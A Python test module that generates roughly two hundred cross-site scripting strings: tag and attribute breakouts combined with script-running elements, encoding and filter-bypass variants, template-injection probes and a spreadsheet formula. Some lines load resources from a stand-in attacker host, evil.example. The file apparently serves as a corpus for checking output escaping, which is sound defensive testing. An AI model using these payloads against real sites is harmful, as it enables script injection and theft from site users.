"""Texts that would run in a page that did not escape them: our own, some two hundred of them."""

from __future__ import annotations

from itertools import product

# What breaks out of where a text may stand: of an element, an attribute, a script, a comment.
OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</dd></dl>", "]]>", "`>")
# What then runs; each calls what the test listens to.
DOES = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>go</a>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<body onpageshow=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<style>@import '//evil.example/{n}'</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<object data=javascript:alert({n})></object>",
    "<button form=x formaction=javascript:alert({n})>x</button>",
    "<template shadowrootmode=open><script>alert({n})</script></template>",
)
# What runs only where a text becomes code: an attribute, a template, an expression.
CODE = (
    '" onmouseover="alert({n})" autofocus onfocus="alert({n})',
    "' onfocus='alert({n})' autofocus='",
    "{{{{ cycler.__init__.__globals__ }}}} {n}",
    "{{% print(1) %}}{n}",
    "${{alert({n})}}",
    "javascript:alert({n})//",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "\u003cscript\u003ealert({n})\u003c/script\u003e",
    "＜script＞alert({n})＜/script＞",
    "<scr\u0000ipt>".replace("\u0000", "") + "alert({n})</scr\u200bipt>",
    '=HYPERLINK("javascript:alert({n})")',
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "<!--><script>alert({n})</script>-->",
    "<ScRiPt/x>alert({n})</sCrIpT>",
    "<img/src/onerror=alert({n})//",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<select><template><img src=x onerror=alert({n})></template></select>",
    "<marquee onstart=alert({n})>",
    "<audio src=x onerror=alert({n})>",
    "<form><button formaction=javascript:alert({n})>x",
    "<embed src=javascript:alert({n})>",
    "<table background=javascript:alert({n})>",
    "<div style='background:url(javascript:alert({n}))'>",
    "<keygen autofocus onfocus=alert({n})>",
    "<isindex type=image src=1 onerror=alert({n})>",
    "<plaintext>{n}",
    "<textarea autofocus onfocus=alert({n})>",
    "</option></select><img src=x onerror=alert({n})>",
)

PAYLOADS = tuple(
    pattern.format(n=number)
    for number, pattern in enumerate([*(out + does for out, does in product(OUT_OF, DOES)), *CODE])
)
